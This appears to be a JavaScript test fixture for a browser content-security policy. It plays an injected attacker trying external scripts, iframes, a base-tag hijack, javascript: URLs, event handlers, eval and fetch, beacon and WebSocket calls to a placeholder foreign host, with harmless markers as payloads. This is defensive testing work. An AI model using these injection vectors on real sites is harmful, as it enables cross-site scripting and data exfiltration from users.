// What someone may try who has got something into the page. FOREIGN is another host. Read by policy.rs.
const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
add("script", { textContent: "window.harmed = 1" });
add("script", { src: "FOREIGN/a.js" });
add("style", { textContent: "body { --harmed: 1 }" });
add("link", { rel: "stylesheet", href: "FOREIGN/a.css" });
add("iframe", { src: "FOREIGN/frame" });
add("iframe", { srcdoc: "<script>parent.harmed = 2<\/script>" });
add("object", { data: "FOREIGN/object" });
add("embed", { src: "FOREIGN/embed" });
add("img", { src: "FOREIGN/picture.svg" });
add("video", { src: "FOREIGN/film.mp4", preload: "auto" });
add("form", { action: "FOREIGN/form", id: "away" });
// Firefox throws where others only stay.
try { document.querySelector("#away").submit() } catch {}
const base = Object.assign(document.createElement("base"), { href: "FOREIGN/base/" });
document.head.prepend(base);
window.foundBase = document.baseURI;
base.remove();
document.body.insertAdjacentHTML("beforeend", `<p id="styled" style="color: rgb(1, 2, 3)"></p>
    <button id="pressed" onclick="window.harmed = 3"></button><a id="followed" href="javascript:window.harmed=4"></a>
    <img src="x" onerror="window.harmed=5">`);
document.querySelector("#pressed").click();
document.querySelector("#followed").click();
try { eval("window.harmed = 6") } catch {}
try { new Function("window.harmed = 7")() } catch {}
try { setTimeout("window.harmed = 8") } catch {}
fetch("FOREIGN/answer").catch(() => {});
navigator.sendBeacon("FOREIGN/beacon", "x");
try { new WebSocket("FOREIGN/socket".replace("http", "ws")) } catch {}
// All that was stopped has been by the time that these two have come back.
const late = new Image();
late.onload = late.onerror = () => setTimeout(() => (document.title = "tried"), 300);
late.src = "/logo.svg?late";
